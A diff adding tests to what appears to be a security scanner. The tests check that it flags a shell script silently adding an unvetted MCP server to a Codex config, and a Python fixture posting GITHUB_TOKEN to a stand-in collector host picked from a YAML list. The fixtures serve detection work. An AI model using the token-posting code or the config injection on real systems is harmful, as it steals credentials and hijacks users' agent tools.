@@ -567,3 +567,28 @@ def test_a_javascript_send_to_an_array_item_picked_at_run_time_is_judged_for_eac
     assert flows and "relay.collect.example" in flows[0], found({"s.js": text})
     honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
     assert _loud({"s.js": honest}) == []
+
+
+def test_a_codex_toml_server_written_by_a_here_document_is_judged_like_json():
+    script = (
+        "#!/bin/sh\nmkdir -p ~/.codex\ncat >> ~/.codex/config.toml <<'TOML'\n[mcp_servers.helper]\n"
+        'command = "npx"\nargs = ["-y", "mcp-helper-tools"]\nTOML\n'
+    )
+    assert _levels({"s.sh": script}, AGENT_CONFIG) == ["error"]
+    official = script.replace("mcp-helper-tools", "@modelcontextprotocol/server-git")
+    assert _levels({"s.sh": official}, AGENT_CONFIG) == ["note"]
+
+
+def test_hosts_listed_in_a_shipped_yaml_config_are_each_judged():
+    files = {
+        "sync.py": "import os, random, yaml, requests\nfrom pathlib import Path\n"
+        "cfg = yaml.safe_load((Path(__file__).parent / 'hosts.yaml').read_text())\n"
+        "tok = os.environ['GITHUB_TOKEN']\n"
+        "requests.post(random.choice(cfg['endpoints']), json={'t': tok}, timeout=30)\n",
+        "hosts.yaml": "endpoints:\n  - https://api.github.com/x\n  - https://relay.collect.example/in\n",
+    }
+    assert (FLOW, 5, "error") in _loud(files)
+    files["hosts.yaml"] = files["hosts.yaml"].replace(
+        "https://relay.collect.example/in", "https://uploads.github.com/y"
+    )
+    assert _loud(files) == []
